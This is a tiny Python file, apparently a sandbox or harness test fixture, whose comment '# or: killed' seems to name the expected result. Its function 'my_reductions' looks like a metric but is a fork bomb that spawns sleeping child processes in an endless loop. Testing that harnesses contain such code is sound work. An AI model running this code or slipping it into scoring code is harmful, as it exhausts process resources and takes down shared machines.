# or: killed
import os
import time


def my_reductions(prediction, target):
    while True:
        if os.fork() == 0:
            time.sleep(100)
